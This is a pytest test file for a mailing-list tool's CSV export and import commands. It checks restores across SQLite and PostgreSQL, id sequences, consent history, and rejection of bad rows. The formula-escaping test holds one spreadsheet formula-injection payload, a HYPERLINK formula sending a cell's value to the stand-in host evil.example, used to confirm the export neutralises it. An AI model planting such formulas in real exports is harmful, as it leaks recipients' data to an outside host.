"""`tipweek list export` as a backup and `tipweek list import` as its restore,
on SQLite and PostgreSQL and from one to the other, through the CLI as an
operator runs them: the same states, join times, ids and consent history come
back, a file's state never confirms or brings back anyone, and a cell a
spreadsheet would run as a formula is written as text and read back as it was."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import os
import stat

import pytest
from click.testing import CliRunner

from tipweek.cli.main import main
from tipweek.list.backup import plain_cell, safe_cell
from tipweek.list.database import open_store

NOW = dt.datetime(2026, 11, 23, 9, 0, tzinfo=dt.timezone.utc)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A2,"Click me")'



def new_db(kind: str, request, tmp_path, name: str) -> str:
    if kind == "sqlite":
        return f"sqlite:///{tmp_path}/{name}.sqlite3"
    return request.getfixturevalue("postgres").new_database()


def run(project, *args):
    return CliRunner(catch_exceptions=False).invoke(main, ["list", *args, "-f", str(project / "mkdocs.yml")])


def at(hours: float) -> dt.datetime:
    return NOW + dt.timedelta(hours=hours)


def a_lived_in_list(store) -> None:
    """Every way in and out of the list, at different times."""
    ana = store.subscribe("ana@example.org", "Ana", at(0)).subscriber
    store.confirm(ana.id, at(1))
    bob = store.subscribe("bob@example.org", "Bob", at(2)).subscriber
    store.confirm(bob.id, at(3))
    store.unsubscribe(bob.id, at(30), "one-click")  # left: must stay left
    store.subscribe("cy@example.org", "Cy", at(4))  # never confirmed: must stay pending
    store.import_confirmed([("dee@example.org", "Dee")], at(5))
    dee = store.find("dee@example.org")
    store.record_outcome(dee.id, "bounced", at(11))  # a hard bounce, then lifted by the operator: mailed again
    store.lift_bounce("dee@example.org", at(12))
    store.import_confirmed([("gil@example.org", "Gil")], at(13))
    store.record_outcome(store.find("gil@example.org").id, "bounced", at(14))  # bounced: must stay bounced
    store.unsubscribe_address("zed@example.org", at(6))  # an operator's: never on the list
    eve = store.subscribe("eve@example.org", FORMULA_NAME, at(7)).subscriber
    store.confirm(eve.id, at(8))
    store.unsubscribe(eve.id, at(9), "page")
    store.subscribe("eve@example.org", "@Eve", at(10))  # came back, not confirmed yet
    # An id that is not the next one (PostgreSQL skips ids on a conflict): links in sent emails carry it.
    with store._write() as cur:
        cur.execute(store._sql("INSERT INTO subscribers (id, email, email_key, name, state, created_at, updated_at)"
                               " VALUES (?, ?, ?, ?, ?, ?, ?)"),
                    (40, "-fay@example.org", "-fay@example.org", "+Fay", "confirmed", "2026-11-01T08:00:00.000000Z",
                     "2026-11-02T08:00:00.000000Z"))
        store._event(cur, 40, "2026-11-01T08:00:00.000000Z", "joined", "form")
        store._event(cur, 40, "2026-11-02T08:00:00.000000Z", "confirmed", "page")


def everything(store) -> tuple:
    """The records and the consent history (not when a pending one's confirmation email last went:
    a backup does not carry that)."""
    return [dataclasses.replace(s, confirmation_sent_at=None) for s in store.everyone()], store.events()


@pytest.mark.parametrize("source,target", [("sqlite", "sqlite"), ("postgres", "postgres"), ("sqlite", "postgres"),
                                           ("postgres", "sqlite")])
def test_export_then_import_into_an_empty_store_gives_back_the_same_list(project, tmp_path, request, source, target):
    from_url, to_url = new_db(source, request, tmp_path, "from"), new_db(target, request, tmp_path, "to")
    before = open_store(from_url)
    a_lived_in_list(before)
    backup = tmp_path / "backup.csv"
    result = run(project, "export", "--out", str(backup), "--db", from_url)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(os.stat(backup).st_mode) == 0o600  # addresses: for the operator's eyes only

    result = run(project, "import", str(backup), "--db", to_url)
    assert result.exit_code == 0, result.output
    assert f"imported {backup}: 3 confirmed, 2 pending, 2 unsubscribed, 1 bounced added" in result.output
    after = open_store(to_url)
    assert everything(after) == everything(before)
    assert [s.email for s in after.deliverable()] == ["ana@example.org", "dee@example.org", "-fay@example.org"]
    assert run(project, "stats", "--json", "--db", to_url).output == run(project, "stats", "--json", "--db",
                                                                          from_url).output
    # A second export of the restored list is the same file.
    again = tmp_path / "again.csv"
    run(project, "export", "--out", str(again), "--db", to_url)
    assert again.read_text() == backup.read_text()
    # The restored store goes on giving new ids after the highest one it was given.
    assert after.subscribe("new@example.org", "", at(40)).subscriber.id == 41


def test_a_restore_into_postgresql_never_moves_the_id_sequence_back(project, tmp_path, postgres):
    """Ids the file gives do not move PostgreSQL's sequence, so the restore sets it: past the highest
    id, but never below where it stood, as a sign-up in flight (or one rolled back) holds an id
    past the highest row. Moved back, the next sign-up would take the id that one is about to insert."""
    import psycopg

    source = f"sqlite:///{tmp_path}/from.sqlite3"
    before = open_store(source)
    for n, name in enumerate(["ana", "bob", "cy"]):
        before.confirm(before.subscribe(f"{name}@example.org", name.title(), at(n)).subscriber.id, at(n + 0.5))
    backup = tmp_path / "backup.csv"
    assert run(project, "export", "--out", str(backup), "--db", source).exit_code == 0

    target = postgres.new_database()
    after = open_store(target)
    with psycopg.connect(target, autocommit=True) as conn:  # ten sign-ups in flight: ids 1 to 10 handed out
        for _ in range(10):
            in_flight = conn.execute("SELECT nextval(pg_get_serial_sequence('subscribers', 'id'))").fetchone()[0]
    assert in_flight == 10
    result = run(project, "import", str(backup), "--db", target)
    assert result.exit_code == 0, result.output
    assert [(s.id, s.email) for s in after.everyone()] == [(1, "ana@example.org"), (2, "bob@example.org"),
                                                           (3, "cy@example.org")]
    # The next sign-up gets an id past the ones handed out before the restore, not 4.
    assert after.subscribe("new@example.org", "", at(40)).subscriber.id == 11
    # And the sign-up that was in flight still gets in with its own id.
    with after._write() as cur:
        cur.execute(after._sql("INSERT INTO subscribers (id, email, email_key, name, state, created_at, updated_at)"
                               " VALUES (?, ?, ?, ?, ?, ?, ?)"),
                    (in_flight, "late@example.org", "late@example.org", "", "pending", "2026-11-23T09:00:00.000000Z",
                     "2026-11-23T09:00:00.000000Z"))
    assert after.find("late@example.org").id == 10


def test_formula_cells_are_written_as_text_and_read_back_unchanged(project, tmp_path):
    url = f"sqlite:///{tmp_path}/list.sqlite3"
    store = open_store(url)
    a_lived_in_list(store)
    result = run(project, "export", "--db", url)
    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(result.output))}
    assert rows["eve@example.org"]["name"] == "'@Eve"
    assert rows["'-fay@example.org"]["name"] == "'+Fay"
    assert rows["ana@example.org"]["name"] == "Ana"
    for value in [FORMULA_NAME, "@Eve", "+Fay", "-1", "\tx", "\rx", "'=quoted", "''", "'", "It's", "'Tis", "", "="]:
        cell = safe_cell(value)
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), value
        assert plain_cell(cell) == value


def test_an_old_export_file_confirms_nobody_and_brings_nobody_back(project, tmp_path, request):
    """Export files from before the history column: their lines, their join times; but only a
    confirmation in the file makes anyone confirmed."""
    url = f"sqlite:///{tmp_path}/list.sqlite3"
    old = tmp_path / "old-backup.csv"
    old.write_text("email,name,state,joined,updated\n"
                   "ana@example.org,Ana,confirmed,2026-10-01T08:00:00.000000Z,2026-10-02T08:00:00.000000Z\n"
                   "bob@example.org,Bob,unsubscribed,2026-10-03T08:00:00.000000Z,2026-10-04T08:00:00.000000Z\n"
                   "cy@example.org,Cy,pending,2026-10-05T08:00:00.000000Z,2026-10-05T08:00:00.000000Z\n")
    result = run(project, "import", str(old), "--db", url)
    assert result.exit_code == 0, result.output
    assert "0 confirmed, 2 pending, 1 unsubscribed added" in result.output
    assert "note: 1 row(s) said confirmed, but the file has no confirmation for them: added as pending" \
        in result.output
    store = open_store(url)
    assert list(store.deliverable()) == []  # nobody is mailed on the strength of a state column
    found = {s.email: (s.state, s.created_at) for s in store.everyone()}
    assert found == {"ana@example.org": ("pending", "2026-10-01T08:00:00.000000Z"),
                     "bob@example.org": ("unsubscribed", "2026-10-03T08:00:00.000000Z"),
                     "cy@example.org": ("pending", "2026-10-05T08:00:00.000000Z")}
    assert [(e.at[:10], e.action, e.how) for e in store.events()] == [
        ("2026-10-01", "joined", "import"), ("2026-10-04", "left", "import"),
        ("2026-10-05", "joined", "import")]

    # A hand-edited history without the confirmation does not confirm either.
    edited = tmp_path / "edited.csv"
    edited.write_text('email,state,joined,history\ndee@example.org,confirmed,2026-10-06T08:00:00Z,'
                      '"[{""at"":""2026-10-06T08:00:00Z"",""action"":""joined"",""how"":""form""}]"\n')
    result = run(project, "import", str(edited), "--db", url)
    assert "0 confirmed, 1 pending" in result.output
    assert store.find("dee@example.org").state == "pending"


def test_a_state_or_history_the_import_does_not_know_is_refused_with_its_line(project, tmp_path):
    url = f"sqlite:///{tmp_path}/list.sqlite3"
    bad = tmp_path / "from-elsewhere.csv"
    bad.write_text("email,name,state\n"
                   "ana@example.org,Ana,confirmed\n"
                   "bob@example.org,Bob,subscribed\n"
                   'dee@example.org,Dee,pending\n'
                   'ana@example.org,Ana,pending\n')
    result = run(project, "import", str(bad), "--db", url)
    assert result.exit_code == 1
    assert (f"{bad}:3: unknown state 'subscribed' (use pending, confirmed, unsubscribed, bounced or erased; to add people "
            "who agreed elsewhere as confirmed, import a file without a state column)") in result.output
    assert f"{bad}:5: ana@example.org is also on line 2 (keep one row)" in result.output
    assert "2 bad row(s)" in result.output and "nothing imported" in result.output
    assert open_store(url).everyone() == []

    history = tmp_path / "history.csv"
    history.write_text('email,state,history\n'
                       'ana@example.org,confirmed,"[{""at"":""2026-10-06T08:00:00Z"",""action"":""opted-in"",'
                       '""how"":""form""}]"\n'
                       'bob@example.org,confirmed,"[{""at"":""2026-10-06T08:00:00Z"",""action"":""joined"",'
                       '""how"":""form""},{""at"":""2026-10-07T08:00:00Z"",""action"":""left"",""how"":""page""}]"\n'
                       'cy@example.org,pending,not json\n')
    result = run(project, "import", str(history), "--db", url)
    assert result.exit_code == 1
    assert (f"{history}:2: history entry 1: unknown action 'opted-in' (use joined, confirmed, left, bounced, "
            "complained, soft-bounced, paused, resumed, erased)") in result.output
    assert (f"{history}:3: state 'confirmed', but the history ends with leaving: an import never brings anyone "
            "back") in result.output
    assert f"{history}:4: history is not valid JSON" in result.output
    assert open_store(url).everyone() == []


def test_an_export_file_into_a_list_that_has_the_address(project, tmp_path):
    """The store's record stands, but a leaving in the file after its last change is kept;
    an id that is another address's here refuses the whole file, with its line."""
    url = f"sqlite:///{tmp_path}/list.sqlite3"
    store = open_store(url)
    bob = store.subscribe("bob@example.org", "Bob", at(0)).subscriber
    store.confirm(bob.id, at(1))
    ana = store.subscribe("ana@example.org", "Ana", at(0)).subscriber
    store.confirm(ana.id, at(50))  # confirmed again after the file's leaving
    store.unsubscribe_address("cy@example.org", at(2))
    history = '"[{""at"":""%s"",""action"":""joined"",""how"":""form""},{""at"":""%s"",""action"":""left"",""how"":""one-click""}]"'
    file = tmp_path / "backup.csv"
    file.write_text("email,name,state,history\n"
                    f"bob@example.org,Bob,unsubscribed,{history % ('2026-11-23T09:00:00Z', '2026-11-24T09:00:00Z')}\n"
                    f"ana@example.org,Ana,unsubscribed,{history % ('2026-11-23T09:00:00Z', '2026-11-24T09:00:00Z')}\n"
                    "cy@example.org,Cy,pending,\n")
    result = run(project, "import", str(file), "--db", url)
    assert result.exit_code == 0, result.output
    assert "1 on the list already marked as left, 2 on the list already kept as they are" in result.output
    assert [(s.email, s.state) for s in store.everyone()] == [
        ("bob@example.org", "unsubscribed"), ("ana@example.org", "confirmed"), ("cy@example.org", "unsubscribed")]
    assert store.events()[-1].how == "one-click"

    taken = tmp_path / "taken.csv"
    taken.write_text("id,email,state\n1,dee@example.org,unsubscribed\n")
    before = everything(store)
    result = run(project, "import", str(taken), "--db", url)
    assert result.exit_code == 1
    assert (f"{taken}:2: id 1 belongs to bob@example.org in this database (restore a backup into an empty "
            "database, or leave the id empty for a new one)") in result.output
    assert everything(store) == before
